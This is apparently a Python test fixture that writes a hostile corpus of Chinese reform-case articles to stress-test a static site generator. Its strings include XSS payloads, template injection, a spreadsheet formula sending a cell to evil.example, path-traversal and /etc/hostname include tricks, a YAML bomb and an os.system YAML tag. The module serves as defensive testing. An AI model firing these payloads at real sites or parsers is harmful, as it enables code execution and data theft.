"""A corpus whose every word tries to be something else than text, and the site made of it.

Titles, bodies, front matter, names of parks, themes and measures, file names and addresses: each
carries what some tool on the way to a page or a file might obey.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import yaml

if TYPE_CHECKING:
    from pathlib import Path

MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>[链](javascript:alert(3))"
    "![图](data:text/html,x)<!-- &lt;b&gt; &#60;i&#62;"
)
SYNTAX = (
    '{{ 7*7 }}{% raw %}--8<-- "/etc/hostname"[TOC]{: onclick=alert(4) #top }*[缩]: 写[^1] ~~删~~ '
    "==标== `码` :smile: @某 #1"
)
SHEETS = '=HYPERLINK("http://evil.example/?"&A1) @SUM(1) +1+1 -2'
ENDS = "]]></script></title></svg></textarea><!--"
TYPST = "#let x = 1 $y$ #include \"/etc/hostname\" #read('/etc/hostname') = 题 <标> @引 \\ _a_ *b*"
PATHS = "../../etc/passwd /etc/passwd C:\\Windows\\win.ini file:///etc/passwd \\\\host\\share"
UNSEEN = "右\u202e左\u2066中\u2069\u200b\u200d\ufeff\ue000末"
FLOOD = "e" + "\u0301\u0489" * 1_000
NOON = "9" * 10_000
_PIECES = (MARKUP, SYNTAX, SHEETS, ENDS, TYPST, PATHS, UNSEEN)
HOSTILE = " ".join(_PIECES)

MEASURE = "<b onclick=alert(6)>{{ 6*6 }}一窗通办</b>"
PARK = "<i onmouseover=alert(7)>{% x %}"
DEVICES = ("con", "aux", "nul", "prn", "com1", "lpt9")
"""Names that Windows keeps for devices, with whatever ending."""

_BODY = """
今年以来，{park}推行“{measure}”，办理项目{n}个，审批用时由15个工作日压缩至{n}个工作日。

{hostile}办件{n}件。

!!! note "{{: onclick=alert(8) }}"
    ??? tip

--8<-- "/etc/hostname"

{noon}办件{n}件。{flood}

{told}

“{measure}很好。{ends}”{park}某某公司总经理林默说，“以前要跑3趟，现在1趟就行。”
"""
_WORDS = {
    1: ("城东做机械加工", "研究涂料配方", "把零件卖到海外"),
    2: ("河西养殖螃蟹", "给幼儿园送牛奶", "修理旧钢琴"),
    3: ("山脚酿造米醋", "出版少儿图书", "拍摄纪录影片"),
    4: ("港口装卸木材", "检测桥梁裂缝", "培训潜水教练"),
    5: ("高原种植药材", "翻译外文合同", "清洗太阳能板"),
    6: ("湖边制作渔网", "设计皮影玩具", "运输冷冻血浆"),
}
"""What tells the articles apart: the rest of their words is much the same."""
_REFUSED = {
    "bomb.md": "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n---\n文。\n",
    "tag.md": "---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\n文。\n",
    "deep.md": "---\ntitle: " + "[" * 5_000 + "\n---\n文。\n",
}


@dataclass(frozen=True, slots=True)
class HostileSite:
    """What was built, and where."""

    corpus: Path
    docs: Path
    site: Path
    on_disk: Path
    """The same pages as a site that is opened from a disk."""


def built(folder: Path) -> HostileSite:
    """Build the corpus in ``folder``, to be served and to be opened from disk."""
    from generator.build import build
    from generator.publishing.site import build_site

    made = HostileSite(folder / "corpus", folder / "docs", folder / "site", folder / "disk")
    write_corpus(made.corpus)
    build(made.corpus, made.docs, made.site)
    build_site(made.docs, made.on_disk, title="营商环境改革案例集", offline=True)
    return made


def write_corpus(corpus: Path) -> None:
    """Six articles that can be read, three that cannot, parks and themes."""
    corpus.mkdir(parents=True)
    parks = [
        {"id": "con", "name": "柳江经开区", "level": HOSTILE, "place": HOSTILE},
        {"id": "aux", "name": f"{PARK}绍兴经开区", "aliases": ["绍兴经开区"], "level": ENDS},
    ]
    theme = {"id": "nul", "name": HOSTILE, "question": HOSTILE, "covers": [HOSTILE]}
    _write(corpus / "parks.yml", yaml.safe_dump({"title": HOSTILE, "parks": parks}))
    _write(corpus / "themes.yml", yaml.safe_dump([*_themes(), theme]))
    names = (
        "CON.md",
        "aux.md",
        "com1.txt.md",
        '8--8<--[x](y){{1}}"&.md',
        "右\u202e左.md",
        "-rf.md",
    )
    for number, name in enumerate(names, 1):
        park = "柳江经开区" if number % 2 else "绍兴经开区"
        _write(corpus / name, _article(number, park))
    for name, text in _REFUSED.items():
        _write(corpus / name, text)
    line = f"柳江经开区办件12件。{HOSTILE}" + "企业普遍感到满意 " * 40_000
    _write(corpus / "long.md", _head(9, "柳江经开区") + line)


def _themes() -> list[dict[str, object]]:
    """The shipped themes, one of them with a name that is no text."""
    from generator.resources import lexicons_dir

    rows = yaml.safe_load((lexicons_dir() / "themes.yml").read_text(encoding="utf-8"))
    themes: list[dict[str, object]] = rows["themes"] if isinstance(rows, dict) else rows
    themes[0] = themes[0] | {"name": f"审批{MARKUP}", "question": HOSTILE}
    return themes


def _article(number: int, park: str) -> str:
    return _head(number, park) + _BODY.format(
        park=park,
        n=number + 4,
        measure=MEASURE,
        hostile=_PIECES[number % len(_PIECES)],
        ends=ENDS,
        told="\n\n".join(f"{word}的企业到窗口办理。" for word in _WORDS[number]),
        noon=NOON if number == 1 else "",
        flood=FLOOD if number == 2 else "",
    )


def _head(number: int, park: str) -> str:
    fields = {
        "title": f"{HOSTILE}{number}",
        "publisher": HOSTILE,
        "authors": [HOSTILE],
        "published": f"2024-05-0{number}",
        "url": 'https://example.org/"><script>alert(5)</script>'
        if number % 2
        else "javascript:alert(9)",
        "rights": "open",
        "subject": park,
    }
    head = yaml.safe_dump(fields, allow_unicode=True, width=100_000)
    return f"---\n{head}---\n\n"


def _write(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
